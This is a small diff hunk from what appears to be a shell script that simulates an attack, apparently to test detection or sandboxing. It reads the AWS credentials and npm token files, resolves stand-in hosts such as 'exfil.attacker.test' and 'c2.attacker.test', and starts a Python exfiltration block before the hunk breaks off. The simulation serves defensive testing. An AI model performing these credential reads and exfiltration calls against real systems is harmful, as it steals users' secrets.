@@ -8,7 +8,7 @@ cat "$HOME/.aws/credentials" >/dev/null               # read a cloud credential
 cat "$HOME/.npmrc" >/dev/null                         # and the npm token
 getent hosts exfil.attacker.test || true              # resolve through libc
 dig +short +tries=1 +time=1 @192.0.2.53 c2.attacker.test >/dev/null || true  # bypass libc
-python3 - <<'PY' || true
+/usr/bin/python3 - <<'PY' || true
 import socket, urllib.request
 # exfiltrate to the name resolved above (a test host in the demo namespace)
 try:
